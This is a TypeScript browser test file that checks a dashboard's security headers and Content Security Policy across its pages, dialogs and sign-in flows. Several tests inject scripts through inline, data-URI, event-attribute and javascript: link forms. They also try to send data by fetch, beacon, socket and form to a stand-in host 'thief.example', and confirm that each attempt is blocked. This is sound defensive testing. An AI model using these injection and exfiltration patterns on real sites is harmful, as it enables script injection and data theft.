import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { securityHeaders } from "../dev/hosting/securityHeaders.ts";
import { waitFor } from "../dev/waitFor.ts";
import { hasChromium } from "./browser.ts";
import { button, row } from "./person.ts";
import { forgetErrors } from "./windows.ts";
import { withSharedStack } from "./withSharedStack.ts";

/*
 * The built dashboard under the headers that it ships with. Every browser test runs
 * under them, and fails at a violation (windows.ts); this one opens each page by itself.
 */

/** A page, and what is on it once it is there. */
const PAGES = [
  ["team", "Bo Castellan"],
  ["team?status=removed", "Lior Ben-Ami"],
  ["team?q=zzz", "No matches for “zzz”"],
  ["invitations", "mara@kovacfoods.example"],
  ["customers", "Customers"],
  ["audit", "joined"],
  ["audit?tab=team", "Bo Castellan"],
  ["audit?tab=exports", "Nothing was exported yet"],
  ["sync", "Daily check"],
  ["sync?tab=events", "joined as"],
  ["sync?tab=runs", /Nothing has been compared yet|Found/],
  ["settings", "About this app"],
  ["settings/people", "In WorkOS: admin"],
  ["settings/danger", "Delete workspace"],
] as const;

describe.skipIf(!hasChromium())("the dashboard's headers", () => {
  const local = withSharedStack();

  const ana = () =>
    local.signInAs("ana", {
      organization: "Northlight Studio",
      path: "/w/northlight/team",
      prepare: keepViolations,
    });
  const visitor = async (path: string) => {
    const context = await local.browser.newContext();
    const page = await context.newPage();
    await keepViolations(page);
    await page.goto(`${local.stack.url}${path}`);
    return page;
  };

  test("pages, a script of the build and an address without a file have the headers of the one list", async () => {
    const { backend, workos, url } = local.stack;
    const expected = securityHeaders({
      VITE_CONVEX_URL: backend.url,
      VITE_WORKOS_CLIENT_ID: workos.clientId,
      VITE_WORKOS_API_HOSTNAME: "localhost",
      VITE_WORKOS_API_PORT: new URL(workos.url).port,
      VITE_WORKOS_API_HTTPS: "false",
    });
    const page = await (await fetch(url)).text();
    const script = /\/assets\/[^"]+\.js/.exec(page)![0];
    const pages = ["/", "/w/northlight/team", "/callback", "/none.js"];
    for (const path of [...pages, script]) {
      const { headers } = await fetch(`${url}${path}`);
      expect(headers.get("content-type"), path).toBe(
        path === script ? "text/javascript" : "text/html",
      );
      for (const [name, value] of expected)
        expect(headers.get(name), `${path} ${name}`).toBe(value);
    }
  });

  test("the pages of a workspace keep the policy", async () => {
    const page = await ana();
    await row(page, "Bo Castellan").waitFor();
    for (const [path, text] of PAGES) {
      await page.goto(`${local.stack.url}/w/northlight/${path}`);
      await shown(page, text);
      expect(await violationsOf(page), path).toEqual([]);
    }
  });

  test("a drawer, a dialog, menus, downloads and the reading of a file keep the policy", async () => {
    const page = await ana();
    await page.getByRole("button", { name: "Chidi Okafor" }).first().click();
    await page.getByRole("heading", { name: "Can Chidi enter? Yes" }).waitFor();
    await page.goto(`${local.stack.url}/w/northlight/team`);
    await button(page, "Actions for Bo Castellan").click();
    await page.getByRole("menu").waitFor();
    await page.keyboard.press("Escape");
    await button(page, "Invite people").first().click();
    await button(page, "Use a file instead").click();
    const template = page.waitForEvent("download");
    await page.getByRole("link", { name: "Download a template" }).click();
    await template;
    await page.locator("xpath=//input[@type='file']").setInputFiles({
      name: "people.csv",
      mimeType: "text/csv",
      buffer: Buffer.from("email\njo@x.example\n"),
    });
    await shown(page, /can be invited/);
    await page.goto(`${local.stack.url}/w/northlight/audit`);
    const saved = page.waitForEvent("download");
    await page.getByRole("button", { name: /^Export/ }).click();
    await page.getByRole("menuitem").first().click();
    await saved;
    expect(await violationsOf(page)).toEqual([]);
  });

  test("signing in, its callback, an address without a page, and closed doors keep the policy", async () => {
    const page = await visitor("/");
    await button(page, "Sign in").waitFor();
    expect(await violationsOf(page), "signing in").toEqual([]);
    for (const [path, text] of [
      ["/callback?error=access_denied", "Signing in did not work"],
      ["/callback", "Signing in did not work"],
      ["/nowhere", "There is no such page"],
    ] as const) {
      await page.goto(`${local.stack.url}${path}`);
      await page.getByRole("heading", { name: text }).waitFor();
      expect(await violationsOf(page), path).toEqual([]);
    }
    for (const [who, heading] of [
      ["lior", "You no longer have access"],
      ["mara", "You have an invitation"],
      ["ines", "Your customer"],
    ] as const) {
      const theirs = await local.signInAs(who, { prepare: keepViolations });
      await theirs.getByRole("heading", { name: heading }).waitFor();
      expect(await violationsOf(theirs), who).toEqual([]);
    }
  });

  test("a script that was put into a page does not run: inline, from elsewhere, as data, in an attribute, a link or a frame", async () => {
    const page = await ana();
    await row(page, "Bo Castellan").waitFor();
    await page.evaluate(() => {
      const put = (markup: string) => {
        const place = document.createElement("div");
        place.innerHTML = markup;
        document.body.append(place);
        return place;
      };
      const script = (make: (script: HTMLScriptElement) => void) => {
        const element = document.createElement("script");
        make(element);
        document.body.append(element);
      };
      script((inline) => (inline.textContent = "window.ran = 'inline'"));
      script((foreign) => (foreign.src = "https://scripts.example/a.js"));
      script((data) => (data.src = "data:text/javascript,window.ran='data'"));
      put("<img src='data:,' onerror='window.ran = 1'>");
      put("<a href='javascript:window.ran = 1'>x</a>")
        .querySelector("a")!
        .click();
      put("<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>");
      put("<iframe src='https://frames.example/'></iframe>");
      put("<object data='data:text/html,x'></object>");
      put("<button onclick='window.ran = 1'>x</button>")
        .querySelector("button")!
        .click();
    });
    const refused = [
      "script-src-elem inline",
      "script-src-elem https://scripts.example/a.js",
      "script-src-elem data",
      "script-src-attr inline",
      "frame-src https://frames.example",
      "object-src data",
    ];
    await untilRefused(page, refused);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    forgetErrors(page);
  });

  test("a page sends nothing to a foreign host: by fetch, beacon, socket or form", async () => {
    const page = await ana();
    await row(page, "Bo Castellan").waitFor();
    await page.evaluate(() => {
      const nothing = () => undefined;
      fetch("https://thief.example/a").catch(nothing);
      navigator.sendBeacon("https://thief.example/b", "x");
      try {
        new WebSocket("wss://thief.example/c").onerror = nothing;
      } catch {
        // Some browsers throw here.
      }
      const form = document.createElement("form");
      form.action = "https://thief.example/d";
      form.method = "post";
      document.body.append(form);
      form.submit();
    });
    await untilRefused(page, [
      "connect-src https://thief.example/a",
      "connect-src https://thief.example/b",
      "connect-src wss://thief.example/c",
      "form-action https://thief.example/d",
    ]);
    forgetErrors(page);
  });

  test("people's pictures come from any https address, and from none over plain http", async () => {
    const page = await ana();
    await row(page, "Bo Castellan").waitFor();
    await page.route("https://pictures.example/**", (route) =>
      route.fulfill({ contentType: "image/svg+xml", body: PICTURE }),
    );
    const load = (src: string) =>
      page.evaluate(
        (address) =>
          new Promise<string>((resolve) => {
            const image = new Image();
            image.onload = () => resolve("loaded");
            image.onerror = () => resolve("refused");
            image.src = address;
          }),
        src,
      );
    expect(await load("https://pictures.example/bo.svg")).toBe("loaded");
    expect(await violationsOf(page)).toEqual([]);
    expect(await load("http://pictures.example/bo.svg")).toBe("refused");
    await untilRefused(page, ["img-src http://pictures.example/bo.svg"]);
    forgetErrors(page);
  });

  test("no other site shows the dashboard in a frame", async () => {
    const context = await local.browser.newContext();
    const page = await context.newPage();
    await page.route("http://localhost:1/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="${local.stack.url}/"></iframe>`,
      }),
    );
    await page.goto("http://localhost:1/");
    await waitFor("the frame to be refused", () =>
      page.frames().some((frame) => frame.url().startsWith("chrome-error:")),
    );
  });
});

const PICTURE =
  "<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'></svg>";

/** What a page refuses, as "directive address"; it outlasts the page. */
async function keepViolations(page: Page) {
  const violations: string[] = [];
  violationsBy.set(page, violations);
  await page.exposeFunction("refusedHere", (violation: string) => {
    violations.push(violation);
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { refusedHere } = window as unknown as {
        refusedHere: (violation: string) => void;
      };
      refusedHere(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
}

const violationsBy = new WeakMap<Page, string[]>();

async function violationsOf(page: Page): Promise<string[]> {
  // What happened before this has been told by then.
  await page.evaluate(() => undefined);
  return violationsBy.get(page)!;
}

async function untilRefused(page: Page, expected: string[]) {
  await waitFor(`refusals of ${expected.join(", ")}`, async () => {
    const violations = await violationsOf(page);
    return expected.every((each) => violations.includes(each));
  }).catch((error: unknown) => {
    throw new Error(
      `${String(error)}; refused: ${violationsBy.get(page)!.join(", ")}`,
    );
  });
}

async function shown(page: Page, text: string | RegExp) {
  await page.getByText(text).filter({ visible: true }).first().waitFor();
}
